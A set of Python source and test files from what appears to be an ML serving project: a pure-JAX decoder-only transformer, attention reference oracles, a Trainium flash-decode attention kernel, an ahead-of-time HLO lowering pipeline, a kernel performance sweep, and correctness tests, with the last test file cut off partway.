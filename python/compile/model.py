"""L2: the served model — a decoder-only transformer in pure JAX.

Build-time only: `aot.py` lowers `prefill` and `decode_step` per batch
bucket to HLO text, which the rust runtime loads through PJRT. The
attention decode path calls the kernel oracle from `kernels.ref`, i.e.
exactly the math the Bass kernel (`kernels.attention`) implements on
Trainium.

Architecture (Llama-style, sized for CPU serving in the e2e example):
pre-RMSNorm, rotary position embeddings, multi-head attention with a
fixed-size KV cache, GELU MLP, tied embedding/unembedding.
"""

from dataclasses import dataclass, asdict

import jax
import jax.numpy as jnp
import numpy as np

from .kernels import ref


@dataclass(frozen=True)
class ModelConfig:
    name: str = "small-chat"
    vocab: int = 512          # byte-level tokenizer + specials
    d_model: int = 256
    n_layers: int = 4
    n_heads: int = 8
    d_head: int = 32
    d_ff: int = 1024
    max_seq: int = 128

    def to_dict(self):
        return asdict(self)


TINY = ModelConfig(name="tiny", vocab=512, d_model=64, n_layers=2, n_heads=2,
                   d_head=32, d_ff=128, max_seq=64)
SMALL = ModelConfig(name="small-chat")

PRESETS = {"tiny": TINY, "small-chat": SMALL}


# ---------------------------------------------------------------------------
# Parameters
# ---------------------------------------------------------------------------

def param_spec(cfg: ModelConfig):
    """Ordered (name, shape) list — the contract with the rust runtime
    (params are passed positionally in this order)."""
    spec = [("embed", (cfg.vocab, cfg.d_model))]
    for i in range(cfg.n_layers):
        spec += [
            (f"l{i}.ln1", (cfg.d_model,)),
            (f"l{i}.wq", (cfg.d_model, cfg.n_heads * cfg.d_head)),
            (f"l{i}.wk", (cfg.d_model, cfg.n_heads * cfg.d_head)),
            (f"l{i}.wv", (cfg.d_model, cfg.n_heads * cfg.d_head)),
            (f"l{i}.wo", (cfg.n_heads * cfg.d_head, cfg.d_model)),
            (f"l{i}.ln2", (cfg.d_model,)),
            (f"l{i}.w1", (cfg.d_model, cfg.d_ff)),
            (f"l{i}.w2", (cfg.d_ff, cfg.d_model)),
        ]
    spec.append(("ln_f", (cfg.d_model,)))
    return spec


def init_params(cfg: ModelConfig, seed: int = 0):
    """Deterministic scaled-gaussian init, as an ordered list of arrays."""
    rng = np.random.default_rng(seed)
    params = []
    for name, shape in param_spec(cfg):
        if name.endswith(("ln1", "ln2", "ln_f")):
            arr = np.ones(shape, dtype=np.float32)
        else:
            fan_in = shape[0] if len(shape) > 1 else cfg.d_model
            arr = (rng.standard_normal(shape) / np.sqrt(fan_in)).astype(np.float32)
        params.append(arr)
    return params


def params_to_tree(cfg: ModelConfig, params):
    """List → {name: array} for readable indexing inside the model."""
    return {name: p for (name, _), p in zip(param_spec(cfg), params)}


# ---------------------------------------------------------------------------
# Model pieces
# ---------------------------------------------------------------------------

def rmsnorm(x, scale):
    var = jnp.mean(jnp.square(x), axis=-1, keepdims=True)
    return x * jax.lax.rsqrt(var + 1e-6) * scale


def rope(x, positions):
    """Rotary embeddings. x: [B, T, H, Dh], positions: [B, T]."""
    d = x.shape[-1]
    half = d // 2
    freqs = 1.0 / (10000.0 ** (jnp.arange(half, dtype=jnp.float32) / half))
    theta = positions[:, :, None, None].astype(jnp.float32) * freqs[None, None, None, :]
    cos, sin = jnp.cos(theta), jnp.sin(theta)
    x1, x2 = x[..., :half], x[..., half:]
    return jnp.concatenate([x1 * cos - x2 * sin, x1 * sin + x2 * cos], axis=-1)


def decode_step(cfg: ModelConfig, params, tokens, positions, kv):
    """One incremental decode step for a batch.

    Args:
      params:    ordered list (see `param_spec`).
      tokens:    [B] int32 — the current token per sequence.
      positions: [B] int32 — its position (= current length).
      kv:        [L, 2, B, H, S, Dh] f32 cache.

    Returns:
      (logits [B, vocab], kv_new [L, 2, B, H, S, Dh])
    """
    tree = params_to_tree(cfg, params)
    b = tokens.shape[0]
    h, dh, smax = cfg.n_heads, cfg.d_head, cfg.max_seq

    x = tree["embed"][tokens]                      # [B, D]
    mask = ref.length_mask(positions[:, None] + 1, smax)  # [B, S]

    new_kv = []
    for i in range(cfg.n_layers):
        xn = rmsnorm(x, tree[f"l{i}.ln1"])
        q = (xn @ tree[f"l{i}.wq"]).reshape(b, 1, h, dh)
        k = (xn @ tree[f"l{i}.wk"]).reshape(b, 1, h, dh)
        v = (xn @ tree[f"l{i}.wv"]).reshape(b, 1, h, dh)
        q = rope(q, positions[:, None])[:, 0]      # [B, H, Dh]
        k = rope(k, positions[:, None])[:, 0]      # [B, H, Dh]
        v = v[:, 0]

        # Write k,v into the cache at `positions` per batch row.
        k_cache = kv[i, 0]                          # [B, H, S, Dh]
        v_cache = kv[i, 1]
        idx = positions                             # [B]
        k_cache = jax.vmap(
            lambda c, kk, p: jax.lax.dynamic_update_slice(c, kk[:, None, :], (0, p, 0))
        )(k_cache, k, idx)
        v_cache = jax.vmap(
            lambda c, vv, p: jax.lax.dynamic_update_slice(c, vv[:, None, :], (0, p, 0))
        )(v_cache, v, idx)
        new_kv.append(jnp.stack([k_cache, v_cache]))

        # Attention over the cache — the Bass kernel's math
        # (`kernels.attention` implements attention_decode on Trainium).
        att = ref.attention_decode_batched(
            q,
            k_cache.transpose(0, 2, 1, 3),          # [B, S, H, Dh]
            v_cache.transpose(0, 2, 1, 3),
            mask,
        )                                            # [B, H, Dh]
        x = x + att.reshape(b, h * dh) @ tree[f"l{i}.wo"]

        xn2 = rmsnorm(x, tree[f"l{i}.ln2"])
        x = x + jax.nn.gelu(xn2 @ tree[f"l{i}.w1"]) @ tree[f"l{i}.w2"]

    x = rmsnorm(x, tree["ln_f"])
    logits = x @ tree["embed"].T                    # tied unembedding
    kv_new = jnp.stack(new_kv)                      # [L, 2, B, H, S, Dh]
    return logits, kv_new


def prefill(cfg: ModelConfig, params, tokens, length):
    """Process a (padded) prompt and build the KV cache.

    Args:
      tokens: [B, S_bucket] int32, right-padded.
      length: [B] int32 actual prompt lengths.

    Returns:
      (logits [B, vocab] at the last real position, kv [L,2,B,H,Smax,Dh])
    """
    tree = params_to_tree(cfg, params)
    b, s = tokens.shape
    h, dh, smax = cfg.n_heads, cfg.d_head, cfg.max_seq

    positions = jnp.broadcast_to(jnp.arange(s, dtype=jnp.int32)[None, :], (b, s))
    x = tree["embed"][tokens]                       # [B, S, D]

    # Causal mask + padding mask: token t attends to s <= t and s < length.
    causal = jnp.tril(jnp.ones((s, s), dtype=bool))
    valid = positions < length[:, None]             # [B, S]
    attn_mask = jnp.where(causal[None] & valid[:, None, :], 0.0, ref.MASK_NEG)

    kv_layers = []
    for i in range(cfg.n_layers):
        xn = rmsnorm(x, tree[f"l{i}.ln1"])
        q = (xn @ tree[f"l{i}.wq"]).reshape(b, s, h, dh)
        k = (xn @ tree[f"l{i}.wk"]).reshape(b, s, h, dh)
        v = (xn @ tree[f"l{i}.wv"]).reshape(b, s, h, dh)
        q = rope(q, positions)
        k = rope(k, positions)

        scale = 1.0 / np.sqrt(dh)
        scores = jnp.einsum("bthd,bshd->bhts", q, k) * scale
        scores = scores + attn_mask[:, None, :, :]
        p = jax.nn.softmax(scores, axis=-1)
        att = jnp.einsum("bhts,bshd->bthd", p, v)
        x = x + att.reshape(b, s, h * dh) @ tree[f"l{i}.wo"]

        xn2 = rmsnorm(x, tree[f"l{i}.ln2"])
        x = x + jax.nn.gelu(xn2 @ tree[f"l{i}.w1"]) @ tree[f"l{i}.w2"]

        # Cache layout [B, H, Smax, Dh], zero-padded beyond the bucket.
        k_c = jnp.zeros((b, h, smax, dh), jnp.float32)
        v_c = jnp.zeros((b, h, smax, dh), jnp.float32)
        # Zero padded positions so the cache holds no garbage.
        pad = (positions < length[:, None])[:, None, :, None]  # [B,1,S,1]
        k_c = k_c.at[:, :, :s, :].set(k.transpose(0, 2, 1, 3) * pad)
        v_c = v_c.at[:, :, :s, :].set(v.transpose(0, 2, 1, 3) * pad)
        kv_layers.append(jnp.stack([k_c, v_c]))

    x = rmsnorm(x, tree["ln_f"])
    logits_all = x @ tree["embed"].T                # [B, S, vocab]
    last = jnp.clip(length - 1, 0, s - 1)
    logits = jnp.take_along_axis(
        logits_all, last[:, None, None].astype(jnp.int32), axis=1
    )[:, 0]
    return logits, jnp.stack(kv_layers)


def kv_shape(cfg: ModelConfig, batch: int):
    return (cfg.n_layers, 2, batch, cfg.n_heads, cfg.max_seq, cfg.d_head)
