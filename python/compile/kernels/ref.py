"""Pure-jnp oracles for the Bass kernels.

These functions are the *semantic contract*: the Bass kernel must match
them (up to float tolerance) under CoreSim, and the L2 model calls them so
the CPU-PJRT artifact computes exactly the math the kernel implements on
Trainium (see DESIGN.md §Hardware-Adaptation — NEFFs are not loadable
through the CPU plugin, so the shipped HLO lowers the reference path while
the kernel is validated against it at build time).
"""

import jax.numpy as jnp
import numpy as np

MASK_NEG = -1.0e9


def attention_decode(q, k, v, mask):
    """Single-token flash-decode attention for one sequence.

    Args:
      q:    [H, Dh]    query for the new token.
      k:    [S, H, Dh] cached keys (padded to S).
      v:    [S, H, Dh] cached values.
      mask: [S]        additive mask (0 for valid positions, -1e9 for
                       padding / not-yet-written cache slots).

    Returns:
      [H, Dh] attention output (no output projection).
    """
    scale = 1.0 / np.sqrt(q.shape[-1])
    # scores[h, s] = q[h,:] . k[s,h,:]
    scores = jnp.einsum("hd,shd->hs", q, k) * scale
    scores = scores + mask[None, :]
    m = jnp.max(scores, axis=-1, keepdims=True)
    p = jnp.exp(scores - m)
    denom = jnp.sum(p, axis=-1, keepdims=True)
    p = p / denom
    return jnp.einsum("hs,shd->hd", p, v)


def attention_decode_batched(q, k, v, mask):
    """Batched variant used by the L2 decode step.

    Args:
      q:    [B, H, Dh]
      k:    [B, S, H, Dh]
      v:    [B, S, H, Dh]
      mask: [B, S]
    Returns:
      [B, H, Dh]
    """
    scale = 1.0 / np.sqrt(q.shape[-1])
    scores = jnp.einsum("bhd,bshd->bhs", q, k) * scale
    scores = scores + mask[:, None, :]
    m = jnp.max(scores, axis=-1, keepdims=True)
    p = jnp.exp(scores - m)
    p = p / jnp.sum(p, axis=-1, keepdims=True)
    return jnp.einsum("bhs,bshd->bhd", p, v)


def length_mask(length, max_seq):
    """Additive mask allowing attention to positions < length."""
    pos = jnp.arange(max_seq)
    return jnp.where(pos < length, 0.0, MASK_NEG)


def attention_decode_np(q, k, v, mask):
    """NumPy twin of `attention_decode` for CoreSim expected-output tensors
    (float64 internally for a tight oracle)."""
    q = np.asarray(q, dtype=np.float64)
    k = np.asarray(k, dtype=np.float64)
    v = np.asarray(v, dtype=np.float64)
    mask = np.asarray(mask, dtype=np.float64)
    scale = 1.0 / np.sqrt(q.shape[-1])
    scores = np.einsum("hd,shd->hs", q, k) * scale + mask[None, :]
    m = scores.max(axis=-1, keepdims=True)
    p = np.exp(scores - m)
    p = p / p.sum(axis=-1, keepdims=True)
    return np.einsum("hs,shd->hd", p, v).astype(np.float32)
