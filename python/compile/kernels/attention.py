"""L1: flash-decode attention as a Trainium Bass/Tile kernel.

The paper serves models through vLLM, whose hot spot is PagedAttention on
CUDA. DESIGN.md §Hardware-Adaptation explains the mapping; the short
version implemented here:

* KV *paging* stays in the rust coordinator (`llm/kv_cache.rs`), which
  hands the kernel contiguous per-slot KV — gathering non-contiguous
  blocks is a DMA-descriptor concern on Trainium, not an in-kernel
  pointer chase.
* q·K lands on the TensorEngine with the head dim as the contraction
  (partition) axis: `scores[1, S] = qᵀ[Dh, 1].T @ Kᵀ[Dh, S]` — one matmul
  per head, accumulated in PSUM.
* The online softmax uses the VectorEngine for the running max and the
  ScalarEngine's fused `exp(in·scale + bias)` with `accum_out` producing
  the denominator in the same pass.
* softmax·V needs the probabilities partition-major; an HBM bounce
  re-orients `p[1, S]` into `pᵀ[128, 1]` chunks (the DMA engines do the
  stride change), then V tiles in natural [S, Dh] layout are the moving
  operand of an accumulating matmul over S chunks.
* K/V tiles stream HBM→SBUF through a double-buffered tile pool — the
  cudaMemcpyAsync-prefetch analogue.

Layouts (all f32 DRAM tensors):
  q_t  [Dh, H]      queries, head-minor so a head slice is [Dh, 1]
  k_t  [H, Dh, S]   keys, pre-transposed per head
  v    [H, S, Dh]   values, natural layout
  mask [1, S]       additive mask (0 valid / -1e9 invalid)
  out  [H, Dh]
"""

from contextlib import ExitStack

import numpy as np

import concourse.bass as bass
import concourse.mybir as mybir
import concourse.tile as tile
from concourse._compat import with_exitstack
from concourse.bass import ts

P = 128  # partition dimension


@with_exitstack
def flash_decode_attention(
    ctx: ExitStack,
    tc: tile.TileContext,
    outs,
    ins,
    kv_bufs: int = 2,  # §Perf: double-buffering wins (1.22x vs 1; 4 adds SBUF pressure)
    work_bufs: int = 4,
):
    """Tile kernel: outs = [out [H, Dh]], ins = [q_t, k_t, v, mask]."""
    nc = tc.nc
    q_t, k_t, v, mask = ins
    (out,) = outs

    heads, d_head = out.shape
    seq = k_t.shape[2]
    assert q_t.shape == (d_head, heads)
    assert k_t.shape == (heads, d_head, seq)
    assert v.shape == (heads, seq, d_head)
    assert mask.shape == (1, seq)
    assert d_head <= P, "head dim must fit one partition tile"
    assert seq % P == 0, "sequence must be a multiple of 128"
    n_chunks = seq // P
    scale = 1.0 / float(np.sqrt(d_head))
    f32 = mybir.dt.float32

    consts = ctx.enter_context(tc.tile_pool(name="consts", bufs=1))
    kv_pool = ctx.enter_context(tc.tile_pool(name="kv", bufs=kv_bufs))
    work = ctx.enter_context(tc.tile_pool(name="work", bufs=work_bufs))
    stats = ctx.enter_context(tc.tile_pool(name="stats", bufs=4))
    psum = ctx.enter_context(tc.tile_pool(name="psum", bufs=4, space="PSUM"))

    mask_sb = consts.tile([1, seq], f32)
    nc.sync.dma_start(mask_sb[:], mask[:, :])

    # Scratch for re-orienting p from free-major [1, S] to partition-major
    # [S, 1] chunks (an HBM round-trip; the DMA engines do the transpose
    # for free — see the chunk loop below).
    p_scratch = nc.dram_tensor("p_scratch", [heads, seq, 1], f32, kind="Internal").ap()

    for h in range(heads):
        # ---- load this head's tiles ------------------------------------
        k_sb = kv_pool.tile([d_head, seq], f32)
        nc.sync.dma_start(k_sb[:], k_t[h, :, :])
        q_sb = kv_pool.tile([d_head, 1], f32)
        nc.sync.dma_start(q_sb[:], q_t[:, ts(h, 1)])

        # ---- scores[1, S] = qᵀ K (contraction over Dh partitions) ------
        scores_psum = psum.tile([1, seq], f32)
        nc.tensor.matmul(scores_psum[:], q_sb[:], k_sb[:], start=True, stop=True)

        # ---- scale + mask ----------------------------------------------
        t_sb = work.tile([1, seq], f32)
        nc.scalar.mul(t_sb[:], scores_psum[:], scale)
        nc.vector.tensor_add(t_sb[:], t_sb[:], mask_sb[:])

        # ---- numerically stable softmax with fused denominator ---------
        mx = stats.tile([1, 1], f32)
        nc.vector.reduce_max(mx[:], t_sb[:], axis=mybir.AxisListType.X)
        neg_mx = stats.tile([1, 1], f32)
        nc.scalar.mul(neg_mx[:], mx[:], -1.0)
        p_sb = work.tile([1, seq], f32)
        denom = stats.tile([1, 1], f32)
        # p = exp(t - max); denom = Σ p  (single ScalarEngine pass)
        nc.scalar.activation(
            p_sb[:],
            t_sb[:],
            mybir.ActivationFunctionType.Exp,
            bias=neg_mx[:],
            scale=1.0,
            accum_out=denom[:],
        )
        recip = stats.tile([1, 1], f32)
        nc.vector.reciprocal(recip[:], denom[:])

        # ---- re-orient p to partition-major via an HBM bounce ----------
        nc.sync.dma_start(p_scratch[h].rearrange("s one -> one s"), p_sb[:])

        # ---- out[1, Dh] = p · V, accumulated over S chunks --------------
        out_psum = psum.tile([1, d_head], f32)
        for i in range(n_chunks):
            pt_sb = work.tile([P, 1], f32)
            nc.sync.dma_start(pt_sb[:], p_scratch[h, ts(i, P), :])
            v_sb = kv_pool.tile([P, d_head], f32)
            nc.sync.dma_start(v_sb[:], v[h, ts(i, P), :])
            nc.tensor.matmul(
                out_psum[:],
                pt_sb[:],
                v_sb[:],
                start=(i == 0),
                stop=(i == n_chunks - 1),
            )

        # ---- normalize and store ----------------------------------------
        out_sb = work.tile([1, d_head], f32)
        nc.scalar.activation(
            out_sb[:],
            out_psum[:],
            mybir.ActivationFunctionType.Copy,
            scale=recip[:],
        )
        nc.sync.dma_start(out[ts(h, 1), :], out_sb[:])


def random_case(rng: np.random.Generator, heads: int, d_head: int, seq: int, length: int):
    """Build a random (ins, expected) pair in the kernel's DRAM layouts."""
    from . import ref

    q = rng.standard_normal((heads, d_head), dtype=np.float32)
    k = rng.standard_normal((seq, heads, d_head), dtype=np.float32)
    v = rng.standard_normal((seq, heads, d_head), dtype=np.float32)
    mask = np.where(np.arange(seq) < length, 0.0, ref.MASK_NEG).astype(np.float32)
    expected = ref.attention_decode_np(q, k, v, mask)
    ins = [
        np.ascontiguousarray(q.T),                    # q_t  [Dh, H]
        np.ascontiguousarray(k.transpose(1, 2, 0)),   # k_t  [H, Dh, S]
        np.ascontiguousarray(v.transpose(1, 0, 2)),   # v    [H, S, Dh]
        mask.reshape(1, seq),                          # mask [1, S]
    ]
    return ins, expected
