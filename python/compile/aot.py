"""AOT pipeline: lower the L2 model to HLO-text artifacts + weights blob.

Run once at build time (`make artifacts`); the rust runtime then serves
entirely from `artifacts/` with no Python anywhere near the request path.

Outputs (per model preset):
  artifacts/<model>/decode_b{B}.hlo.txt     per decode batch bucket
  artifacts/<model>/prefill_s{S}.hlo.txt    per prefill length bucket
  artifacts/<model>/params.bin              raw little-endian f32 weights
  artifacts/manifest.json                   everything rust needs to load

HLO *text* — not `.serialize()` — is the interchange format: jax ≥ 0.5
emits HloModuleProtos with 64-bit instruction ids that the crate's
xla_extension 0.5.1 rejects; the text parser reassigns ids and
round-trips cleanly (see /opt/xla-example/README.md).
"""

import argparse
import json
import os

import jax
import jax.numpy as jnp
import numpy as np
from jax._src.lib import xla_client as xc

from . import model as M

DECODE_BATCH_BUCKETS = [1, 2, 4, 8]
PREFILL_SEQ_BUCKETS = [16, 32, 64, 128]


def to_hlo_text(lowered) -> str:
    """StableHLO → XlaComputation → HLO text (id-safe interchange)."""
    mlir_mod = lowered.compiler_ir("stablehlo")
    comp = xc._xla.mlir.mlir_module_to_xla_computation(
        str(mlir_mod), use_tuple_args=False, return_tuple=True
    )
    return comp.as_hlo_text()


def input_spec(args):
    return [
        {"dtype": str(a.dtype), "shape": list(a.shape)}
        for a in args
    ]


def lower_model(cfg: M.ModelConfig, out_dir: str, seed: int = 0):
    """Lower all buckets for one model preset; returns its manifest dict."""
    os.makedirs(out_dir, exist_ok=True)
    params = M.init_params(cfg, seed)
    spec = M.param_spec(cfg)

    # ---- weights blob ----------------------------------------------------
    entries = []
    offset = 0
    with open(os.path.join(out_dir, "params.bin"), "wb") as f:
        for (name, shape), arr in zip(spec, params):
            assert arr.dtype == np.float32 and tuple(arr.shape) == tuple(shape)
            f.write(arr.tobytes())
            entries.append(
                {"name": name, "shape": list(shape), "offset": offset,
                 "numel": int(arr.size)}
            )
            offset += int(arr.size)

    param_shapes = [jax.ShapeDtypeStruct(s, jnp.float32) for _, s in spec]
    artifacts = []

    # ---- decode buckets ---------------------------------------------------
    for b in DECODE_BATCH_BUCKETS:
        def decode_fn(*flat):
            ps = list(flat[: len(spec)])
            tokens, positions, kv = flat[len(spec):]
            logits, kv_new = M.decode_step(cfg, ps, tokens, positions, kv)
            return logits, kv_new

        args = param_shapes + [
            jax.ShapeDtypeStruct((b,), jnp.int32),
            jax.ShapeDtypeStruct((b,), jnp.int32),
            jax.ShapeDtypeStruct(M.kv_shape(cfg, b), jnp.float32),
        ]
        lowered = jax.jit(decode_fn).lower(*args)
        text = to_hlo_text(lowered)
        fname = f"decode_b{b}.hlo.txt"
        with open(os.path.join(out_dir, fname), "w") as f:
            f.write(text)
        artifacts.append({
            "kind": "decode",
            "batch": b,
            "file": fname,
            "extra_inputs": input_spec(args[len(spec):]),
            "outputs": [
                {"dtype": "float32", "shape": [b, cfg.vocab]},
                {"dtype": "float32", "shape": list(M.kv_shape(cfg, b))},
            ],
        })
        print(f"  {fname}: {len(text) / 1e6:.1f} MB hlo text")

    # ---- prefill buckets (batch 1) -----------------------------------------
    for s in PREFILL_SEQ_BUCKETS:
        if s > cfg.max_seq:
            continue

        def prefill_fn(*flat):
            ps = list(flat[: len(spec)])
            tokens, length = flat[len(spec):]
            return M.prefill(cfg, ps, tokens, length)

        args = param_shapes + [
            jax.ShapeDtypeStruct((1, s), jnp.int32),
            jax.ShapeDtypeStruct((1,), jnp.int32),
        ]
        lowered = jax.jit(prefill_fn).lower(*args)
        text = to_hlo_text(lowered)
        fname = f"prefill_s{s}.hlo.txt"
        with open(os.path.join(out_dir, fname), "w") as f:
            f.write(text)
        artifacts.append({
            "kind": "prefill",
            "batch": 1,
            "seq_bucket": s,
            "file": fname,
            "extra_inputs": input_spec(args[len(spec):]),
            "outputs": [
                {"dtype": "float32", "shape": [1, cfg.vocab]},
                {"dtype": "float32", "shape": list(M.kv_shape(cfg, 1))},
            ],
        })
        print(f"  {fname}: {len(text) / 1e6:.1f} MB hlo text")

    n_params = sum(e["numel"] for e in entries)
    print(f"  params.bin: {n_params / 1e6:.2f} M params")
    return {
        "config": cfg.to_dict(),
        "seed": seed,
        "params": {"file": "params.bin", "entries": entries,
                   "total_numel": n_params},
        "artifacts": artifacts,
    }


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--out-dir", default="../artifacts")
    parser.add_argument("--models", default="tiny,small-chat",
                        help="comma-separated presets")
    args = parser.parse_args()

    manifest = {"models": {}}
    for name in args.models.split(","):
        cfg = M.PRESETS[name]
        print(f"lowering {name} ...")
        manifest["models"][name] = lower_model(
            cfg, os.path.join(args.out_dir, name)
        )
        manifest["models"][name]["dir"] = name

    path = os.path.join(args.out_dir, "manifest.json")
    with open(path, "w") as f:
        json.dump(manifest, f, indent=1)
    print(f"wrote {path}")


if __name__ == "__main__":
    main()
