"""L1 perf: TimelineSim makespan of the flash-decode attention kernel
across buffering configurations (the §Perf iteration loop for the Bass
layer). Run: cd python && python -m compile.perf_l1"""

import numpy as np

import concourse.bass as bass
import concourse.mybir as mybir
import concourse.tile as tile
from concourse.timeline_sim import TimelineSim

from .kernels.attention import flash_decode_attention


def build(heads, d_head, seq, kv_bufs, work_bufs):
    nc = bass.Bass("TRN2", target_bir_lowering=False)
    tc = tile.TileContext(nc)
    f32 = mybir.dt.float32
    q_t = nc.dram_tensor("q_t", [d_head, heads], f32, kind="ExternalInput").ap()
    k_t = nc.dram_tensor("k_t", [heads, d_head, seq], f32, kind="ExternalInput").ap()
    v = nc.dram_tensor("v", [heads, seq, d_head], f32, kind="ExternalInput").ap()
    mask = nc.dram_tensor("mask", [1, seq], f32, kind="ExternalInput").ap()
    out = nc.dram_tensor("out", [heads, d_head], f32, kind="ExternalOutput").ap()
    with tc:
        flash_decode_attention(tc, [out], [q_t, k_t, v, mask],
                               kv_bufs=kv_bufs, work_bufs=work_bufs)
    return nc


def main():
    heads, d_head, seq = 8, 32, 256
    print(f"flash-decode attention, H={heads} Dh={d_head} S={seq}")
    print(f"{'kv_bufs':>8} {'work_bufs':>10} {'makespan':>12}")
    results = {}
    for kv_bufs in (1, 2, 4):
        for work_bufs in (2, 4):
            nc = build(heads, d_head, seq, kv_bufs, work_bufs)
            t = TimelineSim(nc).simulate()
            results[(kv_bufs, work_bufs)] = t
            print(f"{kv_bufs:>8} {work_bufs:>10} {t:>12.1f}")
    best = min(results, key=results.get)
    worst = max(results, key=results.get)
    print(f"\nbest {best} = {results[best]:.1f}; worst {worst} = {results[worst]:.1f} "
          f"({results[worst]/results[best]:.2f}x)")


if __name__ == "__main__":
    main()
