"""L1 correctness: the Bass flash-decode attention kernel vs the pure
oracle, under CoreSim (no hardware in this environment).

The CoreSim runs are the core correctness signal for the Trainium
adaptation; the hypothesis sweeps exercise the oracle itself (shapes,
dtypes, invariants) at jnp speed.
"""

import numpy as np
import pytest

import concourse.tile as tile
from concourse.bass_test_utils import run_kernel

from compile.kernels import ref
from compile.kernels.attention import flash_decode_attention, random_case


def run_case(heads, d_head, seq, length, seed=0):
    rng = np.random.default_rng(seed)
    ins, expected = random_case(rng, heads=heads, d_head=d_head, seq=seq, length=length)
    run_kernel(
        lambda tc, outs, ins: flash_decode_attention(tc, outs, ins),
        [expected],
        ins,
        bass_type=tile.TileContext,
        check_with_hw=False,
        trace_sim=False,
        trace_hw=False,
    )


@pytest.mark.parametrize(
    "heads,d_head,seq,length",
    [
        (2, 32, 128, 100),   # basic
        (8, 32, 256, 256),   # the small-chat config, full cache
        (8, 32, 256, 1),     # single valid position (first decode step)
        (4, 64, 128, 77),    # wider heads
        (1, 128, 128, 60),   # Dh at the partition limit
    ],
)
def test_kernel_matches_oracle(heads, d_head, seq, length):
    run_case(heads, d_head, seq, length)


def test_kernel_is_deterministic_across_seeds():
    # Different data, same shapes — catches stale-state bugs between runs.
    for seed in (1, 2):
        run_case(2, 32, 128, 64, seed=seed)


# ---------------------------------------------------------------------------
# Oracle self-checks (fast, no CoreSim) with hypothesis.
# ---------------------------------------------------------------------------

from hypothesis import given, settings, strategies as st


@st.composite
def attn_shapes(draw):
    heads = draw(st.sampled_from([1, 2, 4, 8]))
    d_head = draw(st.sampled_from([16, 32, 64]))
    seq = draw(st.sampled_from([128, 256]))
    length = draw(st.integers(min_value=1, max_value=seq))
    return heads, d_head, seq, length


@settings(max_examples=20, deadline=None)
@given(attn_shapes(), st.integers(min_value=0, max_value=2**31 - 1))
def test_oracle_probabilities_sum_to_one(shapes, seed):
    heads, d_head, seq, length = shapes
    rng = np.random.default_rng(seed)
    q = rng.standard_normal((heads, d_head)).astype(np.float32)
    k = rng.standard_normal((seq, heads, d_head)).astype(np.float32)
    v = np.ones((seq, heads, d_head), dtype=np.float32)
    mask = np.where(np.arange(seq) < length, 0.0, ref.MASK_NEG).astype(np.float32)
    # With V = 1, attention output must be exactly 1 (softmax sums to 1).
    out = ref.attention_decode_np(q, k, v, mask)
    np.testing.assert_allclose(out, 1.0, rtol=1e-5)


@settings(max_examples=20, deadline=None)
@given(attn_shapes(), st.integers(min_value=0, max_value=2**31 - 1))
def test_oracle_ignores_masked_positions(shapes, seed):
    heads, d_head, seq, length = shapes
    rng = np.random.default_rng(seed)
    q = rng.standard_normal((heads, d_head)).astype(np.float32)
    k = rng.standard_normal((seq, heads, d_head)).astype(np.float32)
    v = rng.standard_normal((seq, heads, d_head)).astype(np.float32)
    mask = np.where(np.arange(seq) < length, 0.0, ref.MASK_NEG).astype(np.float32)
    out1 = ref.attention_decode_np(q, k, v, mask)
    # Scrambling K/V beyond `length` must not change the output.
    k2, v2 = k.copy(), v.copy()
    k2[length:] = rng.standard_normal((seq - length, heads, d_head))
    v2[length:] = rng.standard_normal((seq - length, heads, d_head))
    out2 = ref.attention_decode_np(q, k2, v2, mask)
    np.testing.assert_allclose(out1, out2, rtol=1e-5, atol=1e-6)


@settings(max_examples=10, deadline=None)
@given(st.integers(min_value=0, max_value=2**31 - 1))
def test_oracle_batched_matches_unbatched(seed):
    rng = np.random.default_rng(seed)
    b, h, dh, s = 3, 2, 32, 128
    q = rng.standard_normal((b, h, dh)).astype(np.float32)
    k = rng.standard_normal((b, s, h, dh)).astype(np.float32)
    v = rng.standard_normal((b, s, h, dh)).astype(np.float32)
    lengths = rng.integers(1, s, size=b)
    mask = np.where(
        np.arange(s)[None, :] < lengths[:, None], 0.0, ref.MASK_NEG
    ).astype(np.float32)
    batched = np.asarray(ref.attention_decode_batched(q, k, v, mask))
    for i in range(b):
        single = ref.attention_decode_np(q[i], k[i], v[i], mask[i])
        np.testing.assert_allclose(batched[i], single, rtol=1e-4, atol=1e-5)


def test_oracle_attends_to_single_position():
    # length=1: output must be exactly v[0].
    h, dh, s = 2, 32, 128
    rng = np.random.default_rng(3)
    q = rng.standard_normal((h, dh)).astype(np.float32)
    k = rng.standard_normal((s, h, dh)).astype(np.float32)
    v = rng.standard_normal((s, h, dh)).astype(np.float32)
    mask = np.where(np.arange(s) < 1, 0.0, ref.MASK_NEG).astype(np.float32)
    out = ref.attention_decode_np(q, k, v, mask)
    np.testing.assert_allclose(out, v[0], rtol=1e-5, atol=1e-6)
