"""L2 correctness: transformer shapes, prefill/decode equivalence,
causality, and determinism."""

import jax.numpy as jnp
import numpy as np
import pytest

from compile import model as M


@pytest.fixture(scope="module")
def tiny():
    cfg = M.TINY
    return cfg, M.init_params(cfg, seed=0)


def _prefill(cfg, params, token_list, bucket=32):
    toks = np.zeros((1, bucket), dtype=np.int32)
    toks[0, : len(token_list)] = token_list
    return M.prefill(
        cfg, params, jnp.asarray(toks), jnp.asarray([len(token_list)], dtype=np.int32)
    )


def test_shapes(tiny):
    cfg, params = tiny
    logits, kv = _prefill(cfg, params, [1, 2, 3])
    assert logits.shape == (1, cfg.vocab)
    assert kv.shape == M.kv_shape(cfg, 1)
    l2, kv2 = M.decode_step(
        cfg, params, jnp.asarray([7], dtype=np.int32), jnp.asarray([3], dtype=np.int32), kv
    )
    assert l2.shape == (1, cfg.vocab)
    assert kv2.shape == kv.shape


def test_prefill_decode_equivalence(tiny):
    """prefill(t[0..n]) must equal prefill(t[0..n-1]) + decode(t[n])."""
    cfg, params = tiny
    tokens = [5, 9, 200, 7, 42]
    full_logits, _ = _prefill(cfg, params, tokens)
    part_logits, kv = _prefill(cfg, params, tokens[:-1])
    dec_logits, _ = M.decode_step(
        cfg,
        params,
        jnp.asarray([tokens[-1]], dtype=np.int32),
        jnp.asarray([len(tokens) - 1], dtype=np.int32),
        kv,
    )
    np.testing.assert_allclose(
        np.asarray(dec_logits), np.asarray(full_logits), rtol=2e-4, atol=2e-4
    )


def test_sequential_decode_chain(tiny):
    """A 4-token chain of decode steps matches one 4-token prefill."""
    cfg, params = tiny
    tokens = [3, 14, 15, 92]
    logits_ref, _ = _prefill(cfg, params, tokens)
    _, kv = _prefill(cfg, params, tokens[:1])
    logits = None
